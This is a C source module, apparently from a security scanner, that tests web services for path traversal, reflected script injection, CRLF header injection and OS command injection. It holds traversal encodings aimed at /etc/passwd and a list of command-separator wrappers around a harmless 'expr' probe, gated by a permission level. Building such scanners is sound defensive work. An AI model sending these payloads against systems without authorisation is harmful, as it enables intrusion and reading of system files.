/* An input is taken where its effect shows: a file beyond the pages, a product that only a command
 * can have worked out, a tag or a header line as it was given.  What any name gets shows nothing.
 */
#include <ctype.h>
#include <inttypes.h>
#include <string.h>
#include <strings.h>

#include "base/arena.h"
#include "base/digest.h"
#include "base/text.h"
#include "device/inputs.h"

#define CLIMB 9 /* folders up: deeper than pages of a small product are */
#define ANSWER_MAX ((size_t)64 << 10)
#define SILENT_MAX 3

/* Ways of writing "up one folder" that a server may resolve after it looked at the path. */
static const char *const steps[] = {"../", "..%2f", "%2e%2e/", "%2e%2e%2f", ".%2e/", "..\\",
    "..%5c", "....//", "..;/", "%252e%252e%252f", "..%252f", "..%c0%af", "%c0%ae%c0%ae/", "/"};

/* What stands around a command that is smuggled into one a program runs. */
static const struct {
	const char *before, *after;
} commands[] = {{"%3B", "%3B"}, {"%7C", ""}, {"%60", "%60"}, {"%24(", ")"}, {"%26", "%26"},
    {"%27%3B", "%3B%27"}, {"%22%3B", "%3B%22"}, {"%0A", "%0A"}};

/* What one place came to. */
struct trial {
	const char *class;
	const char *place;
	const char *input; /* that was taken, else the last */
	int64_t tried;
	int64_t processed;
	const char *detail;
	int64_t exchange;
};

bool
inputs_shows_accounts(struct span body)
{
	static const char name[] = "root:", rest[] = ":0:0:";
	size_t at = 0;

	while ((at = span_find(body, name, sizeof name - 1, at)) != SIZE_MAX) {
		size_t end = at + sizeof name - 1;

		while (end < body.size && end - at < 160 && body.at[end] > ' ' &&
		       body.at[end] < 127 && body.at[end] != ':' && body.at[end] != '<')
			end++;
		if ((at == 0 || !isalnum(body.at[at - 1])) && body.size - end >= sizeof rest - 1 &&
		    memcmp(body.at + end, rest, sizeof rest - 1) == 0)
			return true;
		at++;
	}
	return false;
}

static enum status
add_trial(struct inputs *inputs, const struct trial *trial)
{
	struct fact fact = fact_new(FACT_input_trial);

	if (trial->place == NULL || trial->input == NULL)
		return STATUS_LIMIT;
	fact.port = inputs->service->port;
	fact.exchange = trial->exchange;
	fact.as.input_trial.protocol = inputs->service->name;
	fact.as.input_trial.role = inputs->role;
	fact.as.input_trial.class = trial->class;
	fact.as.input_trial.place = trial->place;
	fact.as.input_trial.input = trial->input;
	fact.as.input_trial.tried = trial->tried;
	fact.as.input_trial.processed = trial->processed;
	fact.as.input_trial.detail = trial->detail;
	inputs->outcome.count++;
	return evidence_add(inputs->evidence, inputs->job, &fact);
}

/* *answered false: the unit said nothing that can be read; why is noted. */
static enum status
ask(struct inputs *inputs, const char *path, struct http_response *response, bool *answered)
{
	enum status status = path == NULL ? STATUS_LIMIT
					  : http_get_as(inputs->job, inputs->target,
						&inputs->session, path, ANSWER_MAX, response);

	*answered = status == STATUS_OK && !response->unread;
	if (fault_is_ours(status))
		return status;
	inputs->silent = status == STATUS_OK ? 0 : inputs->silent + 1;
	if (status != STATUS_OK)
		outcome_lack(inputs->job, &inputs->outcome, "%s", inputs->job->reason);
	else if (response->unread)
		outcome_lack(inputs->job, &inputs->outcome,
		    "port %u: an answer is compressed unasked", inputs->service->port);
	return STATUS_OK;
}

static bool
is_over(struct inputs *inputs)
{
	if (target_time_is_up(inputs->target))
		outcome_lack(
		    inputs->job, &inputs->outcome, "port %u: time is up", inputs->service->port);
	return inputs->silent >= SILENT_MAX || target_time_is_up(inputs->target);
}

/* `path` showed an effect: does `other`, which can have none, show it too? */
static enum status
confirm(struct inputs *inputs, struct trial *trial, const char *other, const char *sign,
    struct http_response *response)
{
	bool answered;

	TRY(ask(inputs, other, response, &answered));
	trial->processed = answered && (sign == NULL ? !inputs_shows_accounts(response->body)
						     : span_find(response->body, sign, strlen(sign),
							   0) == SIZE_MAX)
			       ? 1
			       : UNKNOWN;
	if (trial->processed != 1)
		outcome_lack(inputs->job, &inputs->outcome,
		    "port %u: %s: the same shows where nothing was given", inputs->service->port,
		    trial->place);
	return STATUS_OK;
}

/* ---- files beyond the pages ---- */

static const char *
climb(struct inputs *inputs, const char *place, const char *step, const char *file)
{
	struct text out = text_new(inputs->job);
	const char *path;

	text_printf(&out, "%s", place);
	for (unsigned i = 0; i < CLIMB; i++)
		text_printf(&out, "%s", step);
	text_printf(&out, "etc/%s", file);
	return text_finish(&out, &path) == STATUS_OK ? path : NULL;
}

static enum status
try_climbing(struct inputs *inputs, const char *place, struct http_response *response)
{
	struct trial trial = {.class = "traversal", .place = place, .exchange = UNKNOWN};

	for (size_t i = 0; i < ARRAY_SIZE(steps) && trial.processed == 0 && !is_over(inputs); i++) {
		struct arena_mark mark = arena_mark(inputs->job->arena);
		const char *path = climb(inputs, place, steps[i], "passwd");
		const char *lack = inputs->outcome.lack;
		bool answered;

		TRY(ask(inputs, path, response, &answered));
		trial.tried += answered;
		trial.input = steps[i];
		trial.exchange = answered ? response->exchange : trial.exchange;
		if (answered && inputs_shows_accounts(response->body)) {
			trial.detail = "/etc/passwd was read";
			TRY(confirm(inputs, &trial, climb(inputs, place, steps[i], "passwx"), NULL,
			    response));
		}
		if (trial.processed == 0 && lack == inputs->outcome.lack)
			arena_release(inputs->job->arena, mark);
	}
	return trial.tried == 0 ? STATUS_OK : add_trial(inputs, &trial);
}

/* ---- text that comes back as a tag or a header line ---- */

/* Nobody's browser makes a page of what is not said to be one. */
static bool
is_page(const struct http_response *response)
{
	size_t from = 0;
	const char *type = http_header(response, "Content-Type", &from);

	return type == NULL || strcasestr(type, "html") != NULL;
}

static enum status
draw(struct inputs *inputs, const char **word)
{
	uint8_t random[6];

	TRY(target_random(inputs->job, inputs->target, random, sizeof random));
	*word = hex_of_bytes(inputs->job, (struct span){random, sizeof random});
	return *word == NULL ? STATUS_LIMIT : STATUS_OK;
}

static enum status
try_script(struct inputs *inputs, const char *place, struct http_response *response)
{
	struct trial trial = {.class = "script", .place = place, .exchange = UNKNOWN};
	const char *word, *sign;
	bool answered;

	TRY(draw(inputs, &word));
	sign = arena_printf(inputs->job, "\"><hq%s>", word);
	trial.input = sign;
	TRY(ask(inputs, arena_printf(inputs->job, "%s%%22%%3E%%3Chq%s%%3E", place, word), response,
	    &answered));
	if (!answered)
		return STATUS_OK;
	trial.tried = 1;
	trial.exchange = response->exchange;
	trial.processed = is_page(response) && sign != NULL &&
			  span_find(response->body, sign, strlen(sign), 0) != SIZE_MAX;
	trial.detail = trial.processed == 1 ? arena_printf(inputs->job, "%d: it came back as a tag",
						  response->status)
					    : NULL;
	return add_trial(inputs, &trial);
}

static enum status
try_header(struct inputs *inputs, const char *place, struct http_response *response)
{
	struct trial trial = {.class = "header", .place = place, .exchange = UNKNOWN};
	const char *word, *value;
	bool answered;
	size_t from = 0;

	TRY(draw(inputs, &word));
	trial.input = arena_printf(inputs->job, "\\r\\nX-Trace: %s", word);
	TRY(ask(inputs, arena_printf(inputs->job, "%s%%0d%%0aX-Trace:%%20%s", place, word),
	    response, &answered));
	if (!answered)
		return STATUS_OK;
	value = http_header(response, "X-Trace", &from);
	trial.tried = 1;
	trial.exchange = response->exchange;
	trial.processed = value != NULL && strstr(value, word) != NULL;
	trial.detail = trial.processed == 1 ? "it came back as a header line" : NULL;
	return add_trial(inputs, &trial);
}

/* ---- commands ---- */

/* A product of two numbers drawn now: nobody has it on a page. */
static enum status
try_command(struct inputs *inputs, const char *place, struct http_response *response)
{
	struct trial trial = {.class = "command", .place = place, .exchange = UNKNOWN};
	struct job *job = inputs->job;
	uint8_t random[4];
	unsigned a, b;
	const char *sign;

	TRY(target_random(job, inputs->target, random, sizeof random));
	a = 10007U + random[0] * 256U + random[1];
	b = 10009U + random[2] * 256U + random[3];
	sign = arena_printf(job, "%" PRIu64, (uint64_t)a * b);
	for (size_t i = 0; i < ARRAY_SIZE(commands) && trial.processed == 0 && !is_over(inputs);
	     i++) {
		const char *path = arena_printf(job, "%s%sexpr%%20%u%%20%%5C*%%20%u%s", place,
		    commands[i].before, a, b, commands[i].after);
		bool answered;

		TRY(ask(inputs, path, response, &answered));
		if (sign == NULL)
			return STATUS_LIMIT;
		trial.tried += answered;
		trial.input = path + strlen(place);
		trial.exchange = answered ? response->exchange : trial.exchange;
		if (answered && span_find(response->body, sign, strlen(sign), 0) != SIZE_MAX) {
			trial.detail = arena_printf(job, "it answered %s", sign);
			TRY(confirm(
			    inputs, &trial, arena_printf(job, "%s1", place), sign, response));
		}
	}
	return trial.tried == 0 ? STATUS_OK : add_trial(inputs, &trial);
}

enum status
inputs_try(struct inputs *inputs)
{
	struct http_response *response = arena_allocate(inputs->job, sizeof *response);

	if (response == NULL)
		return STATUS_LIMIT;
	for (size_t i = 0; i < inputs->folder_count && !is_over(inputs); i++) {
		TRY(try_climbing(inputs, inputs->folders[i], response));
		TRY(try_script(inputs, inputs->folders[i], response));
		TRY(try_header(inputs, inputs->folders[i], response));
	}
	TRY(try_script(inputs, "/?page=", response));
	/* what a link of its owner's does with another value, nobody knows: it may change the unit
	 */
	if (inputs->parameter_count > 0 && strcmp(inputs->role, "none") != 0 &&
	    inputs->target->granted < INTRUSION_STRESS) {
		outcome_lack(inputs->job, &inputs->outcome,
		    "port %u: what its owner's pages ask for is given other values at level stress",
		    inputs->service->port);
		return STATUS_OK;
	}
	for (size_t i = 0; i < inputs->parameter_count && !is_over(inputs); i++) {
		TRY(try_climbing(inputs, inputs->parameters[i], response));
		TRY(try_script(inputs, inputs->parameters[i], response));
		TRY(try_header(inputs, inputs->parameters[i], response));
		/* it may do more than show that it ran */
		if (inputs->target->granted >= INTRUSION_STRESS)
			TRY(try_command(inputs, inputs->parameters[i], response));
	}
	return STATUS_OK;
}
